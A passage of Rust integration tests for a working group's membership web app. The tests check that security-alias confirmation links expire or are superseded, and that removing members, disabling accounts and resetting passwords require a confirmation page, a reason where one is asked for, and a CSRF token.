                edit_values(admin, id, &[("org_name", org), ("security_alias", alias)]).await;
            assert_eq!(status, 303);
        }
    };
    let link_for = |alias: &'static str| async move {
        smtp.wait_for(alias, "Confirm")
            .await
            .link("/members/alias/")
            .expect("a link")
    };

    // A newer request replaces the older: the first link stops working.
    request(id, "first@slow.example", "Slow Co").await;
    let first = link_for("first@slow.example").await;
    request(id, "second@slow.example", "Slow Co").await;
    let second = link_for("second@slow.example").await;
    let reader = Browser::open(&app).await;
    let stale = reader.post(&first, &[]).await;
    assert_eq!(stale.status(), 410);
    assert!(stale.text().await.expect("page").contains("expired"));
    assert_eq!(member_row(&app, id).await.3, "security@slow.example");

    // Seven days later the second has run out too.
    app.advance(chrono::Duration::days(7) + chrono::Duration::minutes(1));
    assert_eq!(reader.get(&second).await.status(), 410);
    let late = reader.post(&second, &[]).await;
    assert_eq!(late.status(), 410);
    assert_eq!(member_row(&app, id).await.3, "security@slow.example");

    // A member removed after the request: its link does nothing.
    let admin = signed_in(&app, "later@wg.example", &[Role::Admin]).await;
    let (status, _, _) = edit_values(
        &admin,
        left,
        &[
            ("org_name", "Left Co"),
            ("security_alias", "new@left.example"),
        ],
    )
    .await;
    assert_eq!(status, 303);
    let link = link_for("new@left.example").await;
    let removed = admin
        .post(
            &format!("/admin/members/{left}/remove"),
            &[("reason", "Left the project."), ("confirm", "yes")],
        )
        .await;
    assert_eq!(removed.status(), 303);
    assert_eq!(reader.post(&link, &[]).await.status(), 410);
    assert_eq!(member_row(&app, left).await.3, "security@left.example");
    smtp.wait_for("security@left.example", "removed").await;
    app.outbox_idle().await;
}

async fn destructive_actions_ask_on_a_page_of_their_own(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    let id = insert_members(&app, &[("Doomed Co", "doomed.example", "active", "", "")]).await[0];
    let status_of = |id: i64| {
        let app = &app;
        async move {
            app.with_db(move |c| {
                Ok(members::table
                    .find(id)
                    .select(members::status)
                    .first::<String>(c)?)
            })
            .await
        }
    };

    // Removing a member: a page says what happens, with the reason to give and a way back.
    let (status, page) = text_of(&admin, &format!("/admin/members/{id}/remove")).await;
    assert_eq!(status, 200);
    assert!(page.contains("Remove Doomed Co?") && page.contains("Removal is final"));
    assert!(page.contains(&format!("action=\"/admin/members/{id}/remove\"")));
    assert!(
        page.contains("name=\"confirm\" value=\"yes\"") && page.contains("name=\"csrf_token\"")
    );
    assert!(page.contains("href=\"/admin/members\">Cancel</a>"));
    assert!(
        page.contains("name=\"reason\""),
        "removal asks for the reason"
    );
    // A post that did not come from the page does nothing.
    let bare = admin
        .post(
            &format!("/admin/members/{id}/remove"),
            &[("reason", "Old form.")],
        )
        .await;
    assert_eq!(bare.status(), 422);
    let shown = bare.text().await.expect("page");
    assert!(shown.contains("Nothing was done yet") && shown.contains("Old form."));
    assert_eq!(status_of(id).await, "active");
    let no_reason = admin
        .post(
            &format!("/admin/members/{id}/remove"),
            &[("reason", " "), ("confirm", "yes")],
        )
        .await;
    assert_eq!(no_reason.status(), 422);
    assert_eq!(status_of(id).await, "active");
    let no_token = admin
        .post_raw(
            &format!("/admin/members/{id}/remove"),
            &[("reason", "x"), ("confirm", "yes")],
        )
        .await;
    assert_eq!(no_token.status(), 403);
    assert_eq!(status_of(id).await, "active");
    let removed = admin
        .post(
            &format!("/admin/members/{id}/remove"),
            &[
                ("reason", "Stopped meeting the criteria."),
                ("confirm", "yes"),
            ],
        )
        .await;
    assert_eq!(removed.status(), 303);
    assert_eq!(status_of(id).await, "removed");
    let (_, after) = text_of(&admin, &format!("/admin/members/{id}/remove")).await;
    assert!(after.contains("already been removed") && !after.contains("name=\"confirm\""));
    assert_eq!(
        admin.get("/admin/members/999999/remove").await.status(),
        404
    );

    // Disabling an account.
    let lee = app
        .add_account("lee@wg.example", "Lee", &[Role::Reviewer], PASSWORD)
        .await;
    let (status, page) = text_of(&admin, &format!("/admin/users/{lee}/disable")).await;
    assert_eq!(status, 200);
    assert!(page.contains("Disable the account of Lee?") && page.contains("ends at once"));
    assert!(page.contains("href=\"/admin/users\">Cancel</a>"));
    assert!(
        !page.contains("name=\"reason\""),
        "disabling takes no reason"
    );
    let bare = admin
        .post(&format!("/admin/users/{lee}/disable"), &[])
        .await;
    assert_eq!(bare.status(), 422);
    Browser::open(&app)
        .await
        .sign_in("lee@wg.example", PASSWORD)
        .await;
    let disabled = admin
        .post(
            &format!("/admin/users/{lee}/disable"),
            &[("confirm", "yes")],
        )
        .await;
    assert_eq!(disabled.status(), 303);
    let refused = Browser::open(&app)
        .await
        .post(
            "/login",
            &[("email", "lee@wg.example"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(refused.status(), 401, "a disabled account cannot sign in");

    // Resetting a password.
    let sam = app
        .add_account("sam@wg.example", "Sam", &[Role::Reviewer], PASSWORD)
        .await;
    let (status, page) = text_of(&admin, &format!("/admin/users/{sam}/reset-password")).await;
    assert_eq!(status, 200);
    assert!(
        page.contains("Reset the password of Sam?")
            && page.contains("shows the temporary password, once")
    );
    let bare = admin
        .post(&format!("/admin/users/{sam}/reset-password"), &[])
        .await;
    assert_eq!(bare.status(), 422);
    assert!(!bare.text().await.expect("page").contains("<code>"));
    Browser::open(&app)
        .await
        .sign_in("sam@wg.example", PASSWORD)
        .await;
    let reset = admin
        .post(
            &format!("/admin/users/{sam}/reset-password"),
            &[("confirm", "yes")],
        )
        .await;
    assert_eq!(reset.status(), 200);
    assert!(reset.text().await.expect("page").contains("<code>"));
    let old = Browser::open(&app)
        .await
        .post(
            "/login",
            &[("email", "sam@wg.example"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(old.status(), 401, "the old password no longer works");
    assert_eq!(admin.get("/admin/users/999999/disable").await.status(), 404);
}
